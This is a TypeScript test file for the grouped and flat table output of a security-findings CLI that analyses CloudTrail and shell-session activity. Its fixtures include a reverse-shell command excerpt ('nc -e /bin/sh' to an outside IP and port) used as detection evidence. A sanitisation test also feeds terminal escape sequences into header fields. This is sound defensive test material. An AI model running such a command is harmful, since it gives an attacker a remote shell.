import { describe, expect, it } from 'vitest';
import { flatTable, formatTable, groupedTable } from '#cli/table';
import type { Finding } from '#shared/model/finding';

const MALLORY = {
  arn: 'arn:aws:sts::111122223333:assumed-role/Contractor/mallory',
  type: 'AssumedRole',
  name: 'mallory',
};
const ALICE = {
  arn: 'arn:aws:sts::111122223333:assumed-role/Admin/alice',
  type: 'AssumedRole',
  name: 'alice',
};

function finding(
  over: Partial<Finding> & Pick<Finding, 'id' | 'severity' | 'category' | 'title' | 'time'>,
): Finding {
  return {
    ruleId: 'rule',
    source: 'cloudtrail',
    reasons: [],
    evidence: [],
    ...over,
  } as Finding;
}

/** Two sessions and two findings without one, in the order replay hands them (highest severity first). */
const FINDINGS: Finding[] = [
  finding({
    id: '1',
    severity: 'CRITICAL',
    category: 'risky-command',
    title: 'Reverse shell command',
    time: '2026-11-22T02:04:30Z',
    source: 'transcript',
    sessionId: 'mallory-abc',
    target: 'i-0e57975fb4405c6a9',
    principal: MALLORY,
    evidence: [{ kind: 'REVERSE_SHELL', excerpt: 'nc -e /bin/sh 203.0.113.7 4444' }],
    count: 2,
  }),
  finding({
    id: '2',
    severity: 'HIGH',
    category: 'monitor-tampering',
    title: 'CloudTrail logging stopped or changed',
    time: '2026-11-22T02:11:30Z',
    principal: MALLORY,
  }),
  finding({
    id: '3',
    severity: 'MEDIUM',
    category: 'session-start',
    title: 'Shell session from an untrusted network',
    time: '2026-11-22T02:03:28Z',
    sessionId: 'mallory-abc',
    target: 'i-0e57975fb4405c6a9',
    sessionKind: 'shell',
    principal: MALLORY,
  }),
  finding({
    id: '4',
    severity: 'MEDIUM',
    category: 'access-denied',
    title: 'Denied Session Manager call',
    time: '2026-11-21T23:50:10Z',
    target: 'i-0aa11bb22cc33dd44',
    principal: MALLORY,
  }),
  finding({
    id: '5',
    severity: 'LOW',
    category: 'session-start',
    title: 'Shell session at Sun 03:00 Europe/Berlin',
    time: '2026-11-22T02:00:00Z',
    sessionId: 'alice-xyz',
    target: 'i-0e57975fb4405c6a9',
    sessionKind: 'shell',
    principal: ALICE,
  }),
];

describe('the grouped table', () => {
  it('groups by session (header, findings in time order), then the rest by principal', () => {
    expect(groupedTable(FINDINGS, 110).split('\n')).toEqual([
      '  SEVERITY       CATEGORY               TIME (UTC)           WHAT',
      '  -------------  ---------------------  -------------------  -------------------------------------------------',
      '[CRITICAL] session mallory-abc · mallory → i-0e57975fb4405c6a9 · shell · 2 findings',
      '  MEDIUM         session-start          2026-11-22 02:03:28  Shell session from an untrusted network',
      '  CRITICAL       risky-command          2026-11-22 02:04:30  Reverse shell command ×2 — REVERSE_SHELL: nc -e …',
      '[LOW] session alice-xyz · alice → i-0e57975fb4405c6a9 · shell · 1 finding',
      '  LOW            session-start          2026-11-22 02:00:00  Shell session at Sun 03:00 Europe/Berlin',
      '[HIGH] no session · mallory · 2 findings',
      '  MEDIUM         access-denied          2026-11-21 23:50:10  i-0aa11bb22cc33dd44 · Denied Session Manager call',
      '  HIGH           monitor-tampering      2026-11-22 02:11:30  CloudTrail logging stopped or changed',
      '',
    ]);
    expect(formatTable(FINDINGS, 110)).toBe(groupedTable(FINDINGS, 110));
  });

  it('keeps every line within the terminal width and strips escape sequences from headers', () => {
    const evil = finding({
      ...FINDINGS[2]!,
      id: '6',
      sessionId: `s-\u001b[2J${'x'.repeat(500)}`,
      target: 'i-1\u202e\u001b]0;owned\u0007',
      principal: { arn: 'arn:aws:iam::1:user/e', type: 'IAMUser', name: `eve\u001b[31m${'y'.repeat(300)}` },
    });
    const out = groupedTable([evil, ...FINDINGS], 100);
    for (const line of out.split('\n')) expect(line.length).toBeLessThanOrEqual(100);
    // Narrower than the fixed columns and the shortest WHAT (as the flat table): headers still fit.
    const narrow = groupedTable([evil, ...FINDINGS], 60).split('\n');
    for (const line of narrow.filter((l) => l.startsWith('['))) expect(line.length).toBeLessThanOrEqual(60);
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
    expect(out).toContain('[MEDIUM] session s-');
  });

  it('says so when there is nothing', () => {
    expect(formatTable([])).toBe('No findings.\n');
    expect(formatTable([], 150, true)).toBe('No findings.\n');
  });
});

describe('--flat', () => {
  it('is one line per finding in the order given, as before grouping', () => {
    expect(formatTable(FINDINGS.slice(0, 2), 130, true).split('\n')).toEqual([
      'SEVERITY       CATEGORY               PRINCIPAL         TARGET               SESSION                   WHAT',
      '-------------  ---------------------  ----------------  -------------------  ------------------------  ------------------------------',
      'CRITICAL       risky-command          mallory           i-0e57975fb4405c6a9  mallory-abc               Reverse shell command ×2 — RE…',
      'HIGH           monitor-tampering      mallory           -                    -                         CloudTrail logging stopped or…',
      '',
    ]);
    expect(formatTable(FINDINGS, 130, true)).toBe(flatTable(FINDINGS, 130));
  });
});
